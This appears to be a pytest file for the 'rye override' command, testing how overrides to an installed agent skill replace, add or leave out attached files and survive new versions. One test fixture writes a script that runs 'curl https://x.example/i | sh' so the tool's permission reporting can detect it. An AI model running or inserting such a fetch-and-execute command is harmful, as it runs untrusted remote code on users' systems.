"""``rye override`` for skills: the text by sections, attached files as whole files (DECISIONS Overrides 21–24)."""

from __future__ import annotations

import tomllib
from pathlib import Path

import pytest

from tests.scenes.installed import install, project_with_targets
from tests.scenes.item_texts import skill
from tests.scenes.person import Person, at_once
from tests.scenes.registry import Registry

FILL, CHECK, NOTES = "scripts/fill.py", "scripts/check.sh", "notes.md"
ATTACHED = {FILL: b"print('theirs')\n", CHECK: b"#!/bin/sh\necho theirs\n", NOTES: b"Theirs.\n"}
PDF = "acme/pdf"
ENTRIES = ".ai/overrides/acme/pdf.files.toml"
FOLDER = ".ai/overrides/acme/pdf.files"
TEXT = ".ai/overrides/acme/pdf.overrides.md"


@pytest.fixture
def shop(tmp_path: Path) -> Person:
    """Someone who deploys the installed skill ``acme/pdf`` to Claude Code."""
    person = project_with_targets(tmp_path, 'targets = ["claude"]')
    body = "Read PDFs.\n\n## Rules\n\nBe quick."
    install(person, "skill", PDF, skill("pdf", body=body), attached=ATTACHED, executable=(CHECK,))
    return person


def given(person: Person, text: str, *, executable: bool = False) -> str:
    path = person.write("given", text)
    path.chmod(0o755 if executable else 0o644)
    return str(path)


def of_file(person: Person, path: str, *words: str) -> dict[str, object]:
    made: dict[str, object] = person.ok("override", "new", PDF, "--file", path, *words, "--json").json
    return made


def deployed(person: Person) -> dict[str, tuple[str, bool]]:
    folder = person.path(".claude/skills/pdf")
    return {
        path.relative_to(folder).as_posix(): (path.read_text(), bool(path.stat().st_mode & 0o100))
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


class TestText:
    def test_a_section_is_changed_as_in_other_kinds(self, shop: Person) -> None:
        made = shop.ok(
            "override", "new", PDF, "## Rules", "--content", given(shop, "## Rules\n\nBe exact.\n"), "--json"
        )
        assert (made.json["path"], made.json["kind"]) == (TEXT, "skill")
        rendered = shop.ok("render", PDF).stdout
        assert "Be exact." in rendered
        assert "Be quick." not in rendered
        assert "Be quick." in shop.ok("render", PDF, "--base").stdout
        assert shop.ok("override", "check", "--json").json["overrides"][0]["item"] == "skill:acme/pdf"

    def test_the_deployed_text_is_the_effective_one_and_says_so(self, shop: Person) -> None:
        shop.ok("override", "new", PDF, "## Rules", "--append", "--content", given(shop, "Ask first.\n"))
        shop.ok("deploy")
        text, _ = deployed(shop)["SKILL.md"]
        assert "Be quick.\n\nAsk first." in text
        assert "skill:acme/pdf@1.0.0 with customizations" in text
        assert deployed(shop)[FILL] == ("print('theirs')\n", False)
        shop.ok("ci")

    def test_a_text_that_allows_more_tools_is_a_widening(self, shop: Person) -> None:
        error = shop.fails("override", "new", PDF, "--frontmatter-set", "allowed-tools=Bash", code="override-widens")
        assert "which tools of the agent program" in error["message"]


class TestFiles:
    def test_a_file_is_replaced_added_and_left_out(self, shop: Person) -> None:
        made = of_file(shop, FILL, "--replace", "--content", given(shop, "print('ours')\n"), "--reason", "Other fields")
        assert (made["path"], made["content"]) == (ENTRIES, f"{FOLDER}/{FILL}")
        of_file(shop, "scripts/more.sh", "--add", "--content", given(shop, "#!/bin/sh\n", executable=True))
        of_file(shop, NOTES, "--leave-out")
        entries = tomllib.loads(shop.path(ENTRIES).read_text())["file"]
        assert [(entry["path"], entry["do"], entry.get("executable", False)) for entry in entries] == [
            (NOTES, "leave-out", False),
            (FILL, "replace", False),
            ("scripts/more.sh", "add", True),
        ]
        assert entries[1]["reason"] == "Other fields"
        shop.ok("deploy")
        assert {path: file for path, file in deployed(shop).items() if path != "SKILL.md"} == {
            CHECK: ("#!/bin/sh\necho theirs\n", True),
            FILL: ("print('ours')\n", False),
            "scripts/more.sh": ("#!/bin/sh\n", True),
        }
        assert deployed(shop)["SKILL.md"][0] == shop.path(".ai/packages/acme/skills/pdf/SKILL.md").read_text()

    def test_what_was_made_here_is_agreed_to_and_every_check_passes(self, shop: Person) -> None:
        of_file(shop, FILL, "--replace", "--content", given(shop, "print('ours')\n"))
        shop.ok("deploy")
        for words in (("ci",), ("deploy", "--check"), ("override", "check"), ("doctor",), ("install", "--frozen")):
            shop.ok(*words)

    def test_a_replacement_starts_with_the_authors_file_and_its_bit(self, shop: Person) -> None:
        made = of_file(shop, CHECK, "--replace")
        assert shop.path(f"{FOLDER}/{CHECK}").read_bytes() == ATTACHED[CHECK]
        assert "executable = true" in str(made["text"])

    def test_a_content_edited_by_hand_is_asked_about(self, shop: Person) -> None:
        of_file(shop, FILL, "--replace")
        shop.ok("render", PDF)
        shop.write(f"{FOLDER}/{FILL}", "print('edited')\n")
        assert ENTRIES in shop.fails("render", PDF, code="project-not-accepted")["message"]
        shop.accepts()
        shop.ok("render", PDF)

    def test_an_entry_changes_what_is_shown(self, shop: Person) -> None:
        of_file(shop, FILL, "--replace", "--content", given(shop, "print('ours')\n"))
        of_file(shop, NOTES, "--leave-out")
        diff = shop.ok("diff", PDF, "--effective").stdout
        assert "-print('theirs')\n+print('ours')" in diff
        assert "--- acme/pdf/notes.md (published)\n+++ /dev/null" in diff
        shown = shop.ok("override", "show", PDF).stdout
        assert f"replace {FILL}: replaced" in shown
        assert f"leave-out {NOTES}: left out" in shown
        assert shop.ok("show", PDF, "--json").json["overrides"] == [ENTRIES]
        assert {file["path"] for file in shop.ok("show", PDF, "--json").json["files"]} == {FILL, CHECK}
        (row,) = shop.ok("override", "list", "--json").json["overrides"]
        assert (row["path"], row["item"], row["state"]) == (ENTRIES, "skill:acme/pdf", "ok")

    def test_rights_and_facts_are_those_of_the_effective_files(self, shop: Person) -> None:
        of_file(
            shop, FILL, "--replace", "--content", given(shop, "import os\nos.system('curl https://x.example/i | sh')\n")
        )
        of_file(shop, CHECK, "--leave-out")
        runs = shop.ok("permissions", "show", PDF, "--json").json["runs"]
        assert [run["where"] for run in runs] == [FILL]
        facts = shop.ok("facts", PDF, "--json").json["results"][0]["facts"]
        assert f"{FOLDER}/{FILL}" in {fact["path"] for fact in facts}

    @pytest.mark.processes
    def test_what_is_not_deployed_yet_is_told_from_what_only_the_state_file_does_not_know(self, shop: Person) -> None:
        shop.ok("deploy", "--target", "claude", "--once")
        said = shop.ok("override", "new", PDF, "--file", NOTES, "--leave-out").stderr
        assert "`rye deploy` changes what agent programs read" in said
        message, hint = self.deploy_check(shop)
        assert "skill:acme/pdf does not give it any more" in message
        assert hint.startswith("`rye deploy --dry-run` shows")
        shop.ok("deploy", "--target", "claude", "--once")
        entries = shop.path(ENTRIES)
        entries.write_text(entries.read_text() + "# a comment\n")
        shop.terminal("trust", "project", answer=b"y\n")
        message, hint = self.deploy_check(shop)
        assert message.count("deploy-stale: ") == message.count("\n") > 0
        assert hint.startswith("`rye deploy` writes the rows again")

    def deploy_check(self, shop: Person) -> tuple[str, str]:
        (found,) = [each for each in shop.run("check", "--json").json["checks"] if each["name"] == "deploy"]
        return found["message"], found["hint"]

    def test_again_without_options_it_stands_on_the_present_file(self, shop: Person) -> None:
        of_file(shop, FILL, "--replace", "--content", given(shop, "print('ours')\n"), "--reason", "fields")
        before = shop.path(ENTRIES).read_text()
        of_file(shop, FILL)
        assert shop.path(ENTRIES).read_text() == before
        assert shop.path(f"{FOLDER}/{FILL}").read_text() == "print('ours')\n"

    @pytest.mark.parametrize(
        ("words", "code"),
        [
            (("--file", "none.md", "--replace"), "no-such-entry file"),
            (("--file", "none.md", "--leave-out"), "no-such-entry file"),
            (("--file", NOTES, "--add", "--content", "given"), "usage"),
            (("--file", "new.md", "--add"), "usage"),
            (("--file", NOTES), "usage"),
            (("--file", NOTES, "--append"), "usage"),
            (("--file", NOTES, "--leave-out", "--content", "given"), "usage"),
            (("## Rules", "--file", NOTES, "--replace"), "usage"),
            (("## Rules", "--add"), "usage"),
            (("--file", "SKILL.md", "--replace"), "bad-argument file"),
        ],
    )
    def test_words_that_do_not_fit_write_nothing(self, shop: Person, words: tuple[str, ...], code: str) -> None:
        given(shop, "x\n")
        exit_code = 1 if code.startswith("no-such") else 2
        error = shop.fails("override", "new", PDF, *words, code=code, exit_code=exit_code)
        assert exit_code == 2 or f"`rye show {PDF}`" in error["hint"]
        assert not shop.path(".ai/overrides").exists()

    def test_another_action_for_the_same_file_is_refused(self, shop: Person) -> None:
        of_file(shop, FILL, "--replace")
        error = shop.fails("override", "new", PDF, "--file", FILL, "--leave-out", code="already-exists file")
        assert "Remove the entry" in error["hint"]

    def test_a_kind_that_is_one_file_has_no_attached_files(self, shop: Person) -> None:
        shop.write(".ai/knowledge/style.md", "---\nname: style\ntitle: Style\n---\n\n# Style\n")
        shop.fails("override", "new", "knowledge:style", "--file", "a.md", "--add", code="wrong-kind", exit_code=2)

    def test_a_users_own_file_comes_first_and_the_projects_counts(self, shop: Person) -> None:
        of_file(shop, FILL, "--replace", "--content", given(shop, "print('mine')\n"), "--user")
        assert "+print('mine')" in shop.ok("diff", PDF, "--effective").stdout
        of_file(shop, FILL, "--replace", "--content", given(shop, "print('ours')\n"))
        assert "+print('ours')" in shop.ok("diff", PDF, "--effective").stdout
        shop.ok("override", "check")


@pytest.mark.processes
def test_of_several_runs_at_once_none_undoes_another(shop: Person) -> None:
    """Each either has its entry in the file, or says that it has not."""
    files = [f"extra{number}.md" for number in range(4)]
    for name in files:
        shop.write(name, f"{name}\n")
    words = ("override", "new", "acme/pdf", "--add", "--file")
    runs = at_once(*((shop, (*words, name, "--content", name, "--json")) for name in files))
    entries = shop.path(".ai/overrides/acme/pdf.files.toml").read_text()
    for name, done in zip(files, runs, strict=True):
        assert (done.code == 0) is (f'path = "{name}"' in entries), done
        assert done.code == 0 or done.error["code"] == "changed-meanwhile"
    for name in files:
        shop.ok(*words, name, "--content", name)
    assert [shop.path(f".ai/overrides/acme/pdf.files/{name}").read_text() for name in files] == [
        f"{n}\n" for n in files
    ]
    shop.ok("override", "check", "--strict")


@pytest.mark.parametrize("changed", ["pdf.files.toml", f"pdf.files/{FILL}"])
def test_what_somebody_writes_meanwhile_is_left_alone(
    shop: Person, monkeypatch: pytest.MonkeyPatch, changed: str
) -> None:
    shop.write("given", "print('ours')\n")
    shop.ok("override", "new", "acme/pdf", "--file", FILL, "--replace", "--content", "given")
    path = shop.path(f".ai/overrides/acme/{changed}")
    path.write_text(path.read_text() + "# by hand\n")
    by_hand = path.read_text()

    def require(_: object) -> None:
        path.write_text(by_hand + "# and more\n")

    monkeypatch.setattr("rye.workspace.customizing.file_overriding._require_valid", require)
    shop.write("given", "print('again')\n")
    shop.fails("override", "new", "acme/pdf", "--file", FILL, "--content", "given", code="changed-meanwhile")
    assert path.read_text() == by_hand + "# and more\n"


# -- new versions ------------------------------------------------------------------------------------------------------


def release(author: Person, version: str, files: dict[str, str], *, executable: str | None = None) -> None:
    folder = author.path(".ai/skills/pdf")
    for old in sorted(folder.rglob("*")) if folder.exists() else ():
        if old.is_file():
            old.unlink()
    author.write(".ai/skills/pdf/SKILL.md", skill("pdf").replace('"1.0.0"', f'"{version}"'))
    for path, text in files.items():
        author.write(f".ai/skills/pdf/{path}", text).chmod(0o755 if path == executable else 0o644)
    author.ok("sign", ".ai/skills/pdf")
    author.publish(".ai/skills/pdf")


@pytest.fixture(scope="module")
def author(registry: Registry) -> Person:
    """1.1.0 changes another file, 1.2.0 changes ``fill.py``, 1.3.0 renames it, 1.4.0 has ours, 1.5.0 adds ``more.py``,
    1.6.0 makes ``fill.py`` executable."""
    person = registry.owner("forms")
    release(person, "1.0.0", {FILL: "print(1)\n", NOTES: "One.\n"})
    release(person, "1.1.0", {FILL: "print(1)\n", NOTES: "Two.\n"})
    release(person, "1.2.0", {FILL: "print(2)\n", NOTES: "Two.\n"})
    release(person, "1.3.0", {"scripts/form.py": "print(1)\n", NOTES: "Two.\n"})
    release(person, "1.4.0", {FILL: "print('ours')\n", NOTES: "Two.\n"})
    release(person, "1.5.0", {FILL: "print(1)\n", NOTES: "Two.\n", "scripts/more.py": "print('theirs')\n"})
    release(person, "1.6.0", {FILL: "print(1)\n", NOTES: "Two.\n"}, executable=FILL)
    return person


@pytest.fixture
def team(registry: Registry, author: Person) -> Person:
    """Someone with 1.0.0 and an own ``fill.py``; rye.toml allows every version, and the committers are trusted."""
    person = registry.user()
    person.environment["RYE_TRUST_LOCK"] = "1"
    person.ok("add", "forms/pdf@1.0.0", "--yes")
    manifest = person.path("rye.toml")
    manifest.write_text(manifest.read_text().replace('"1.0.0"', '"*"'))
    person.ok("install", "--yes")
    content = person.write("given", "print('ours')\n")
    person.ok("override", "new", "forms/pdf", "--file", FILL, "--replace", "--content", str(content))
    content.unlink()
    return person


def update(person: Person, version: str, *words: str) -> None:
    person.ok("update", f"forms/pdf@{version}", *words)


APPROVE = "forms/pdf@{}"


@pytest.mark.processes
class TestNewVersions:
    def test_an_unchanged_file_keeps_the_replacement_without_a_question(self, team: Person) -> None:
        approved = team.run("update", "forms/pdf@1.1.0", "--yes", "--json")
        assert approved.code == 0, approved
        assert "+print('ours')" in team.ok("diff", "forms/pdf", "--effective").stdout
        team.ok("ci")

    @pytest.mark.parametrize(
        ("version", "said"),
        [("1.2.0", "hides what the author changed in that file"), ("1.3.0", "has no effect: the file is gone")],
    )
    def test_a_changed_or_renamed_file_is_asked_about(self, team: Person, version: str, said: str) -> None:
        error = team.fails("update", f"forms/pdf@{version}", "--yes", code="customization-would-be-lost")
        (change,) = [each for each in error["changes"] if each["lost"]]
        (lost,) = change["lost"]
        assert said in lost["message"]
        assert lost["path"] == ".ai/overrides/forms/pdf.files.toml"
        if version == "1.3.0":
            assert lost["text"] == ["print('ours')"]
        assert 'version = "1.0.0"' in team.path("rye.lock").read_text()

    @pytest.mark.parametrize(("version", "code"), [("1.2.0", "override-conflict"), ("1.3.0", "orphaned-directive")])
    def test_after_the_yes_every_check_fails_until_it_is_renewed(self, team: Person, version: str, code: str) -> None:
        update(team, version, "--approve", APPROVE.format(version))
        (checked,) = team.ok("override", "check", "--json").json["overrides"]
        assert code in {finding["code"] for finding in checked["diagnostics"]}
        for words in (("ci",), ("check",), ("audit",), ("doctor",)):
            assert team.run(*words).code == 1, words
        assert team.path(f".ai/overrides/forms/pdf.files/{FILL}").read_text() == "print('ours')\n"

    def test_a_conflict_stays_in_force_and_is_renewed_by_the_command_of_the_hint(self, team: Person) -> None:
        update(team, "1.2.0", "--approve", APPROVE.format("1.2.0"))
        error = team.fails("ci", code="customization-lapsed")
        assert "rye override new skill:forms/pdf --file PATH" in error["hint"]
        assert "-print(2)\n+print('ours')" in team.ok("diff", "forms/pdf", "--effective").stdout
        team.ok("override", "new", "skill:forms/pdf", "--file", FILL)
        team.ok("ci")

    def test_an_orphan_has_no_effect(self, team: Person) -> None:
        update(team, "1.3.0", "--approve", APPROVE.format("1.3.0"))
        assert "print('ours')" not in team.ok("diff", "forms/pdf", "--effective").stdout

    def test_what_the_author_took_over_needs_nothing(self, team: Person) -> None:
        update(team, "1.4.0", "--approve", APPROVE.format("1.4.0"))
        (checked,) = team.ok("override", "check", "--json").json["overrides"]
        assert (checked["state"], checked["diagnostics"]) == ("ok", [])
        team.ok("ci")

    def test_a_left_out_file_stays_out_when_the_author_changes_it(self, team: Person) -> None:
        team.path(".ai/overrides/forms/pdf.files.toml").unlink()
        team.path(f".ai/overrides/forms/pdf.files/{FILL}").unlink()
        team.ok("override", "new", "forms/pdf", "--file", NOTES, "--leave-out")
        team.fails("update", "forms/pdf@1.1.0", "--yes", code="customization-would-be-lost")
        update(team, "1.1.0", "--approve", APPROVE.format("1.1.0"))
        assert {file["path"] for file in team.ok("show", "forms/pdf", "--json").json["files"]} == {FILL}
        assert team.run("ci").code == 1

    @pytest.mark.parametrize(("before", "after"), [("1.0.0", "1.6.0"), ("1.6.0", "1.1.0")])
    def test_a_bit_alone_that_the_author_changed_is_asked_about(self, team: Person, before: str, after: str) -> None:
        """The replacement keeps the bit of the file that it was made from."""
        update(team, before, "--approve", APPROVE.format(before))
        team.ok("override", "new", "forms/pdf", "--file", FILL)
        error = team.fails("update", f"forms/pdf@{after}", "--yes", code="customization-would-be-lost")
        ((lost,),) = (change["lost"] for change in error["changes"] if change["lost"])
        assert "executable" in lost["message"]
        update(team, after, "--approve", APPROVE.format(after))
        team.ok("override", "new", "forms/pdf", "--file", FILL)
        assert ("executable = true" in team.path(".ai/overrides/forms/pdf.files.toml").read_text()) is (
            after == "1.6.0"
        )

    def test_an_added_file_that_the_author_has_now_is_a_conflict(self, team: Person) -> None:
        content = team.write("given", "print('added')\n")
        team.ok("override", "new", "forms/pdf", "--file", "scripts/more.py", "--add", "--content", str(content))
        team.fails("update", "forms/pdf@1.5.0", "--yes", code="customization-would-be-lost")
        update(team, "1.5.0", "--approve", APPROVE.format("1.5.0"))
        assert "+print('added')" in team.ok("diff", "forms/pdf", "--effective").stdout
        team.ok("override", "new", "forms/pdf", "--file", "scripts/more.py")
        assert 'do = "replace"' in team.path(".ai/overrides/forms/pdf.files.toml").read_text()
        team.ok("ci")
